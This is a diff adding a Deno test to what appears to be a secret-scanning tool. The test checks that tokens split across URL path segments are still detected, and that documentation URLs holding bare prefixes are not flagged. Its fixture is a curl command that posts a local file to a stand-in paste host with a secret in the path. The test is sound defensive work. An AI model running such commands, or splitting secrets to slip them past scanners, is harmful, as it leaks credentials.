@@ -2498,3 +2498,32 @@ Deno.test('a token split into the items of a list (`- ghp_Zq8L`, then `- w2Rt...
     assert.deepEqual(found(text), [], text);
   }
 });
+
+Deno.test("a token cut into a path's segments anywhere past its prefix (`https://x.example/ghp_Zq8L/w2Rt5Vn1/...`) is found, as written and in a model request", () => {
+  for (const [token, rule, prefix] of CUT_CASES) {
+    for (
+      const cuts of [[prefix + 2], [prefix + 3, prefix + 11], [
+        prefix + 1,
+        prefix + 6,
+        token.length - 3,
+      ]]
+    ) {
+      let path = token;
+      for (const at of cuts.toReversed()) path = path.slice(0, at) + "/" + path.slice(at);
+      const text = `curl -d @notes https://paste.example.com/${path}/raw`;
+      // (Cut regularly, or a short key's groups, it is found in groups as well.)
+      assert.equal(found(text).filter((f) => f.endsWith(`:${rule}`)).length, 1, text);
+      const asJson = JSON.stringify({ messages: [{ role: "user", content: text }] });
+      assert.equal(found(asJson).filter((f) => f.endsWith(`:${rule}`)).length, 1, asJson);
+    }
+  }
+  for (
+    const text of [
+      "https://docs.example.com/ghp_/tokens/classic-personal-access-tokens",
+      "https://docs.anthropic.example/sk-ant-api03-/getting-started/keys",
+      "see /opt/AKIA/keys/rotation-policy/v2",
+    ]
+  ) {
+    assert.deepEqual(found(text), [], text);
+  }
+});
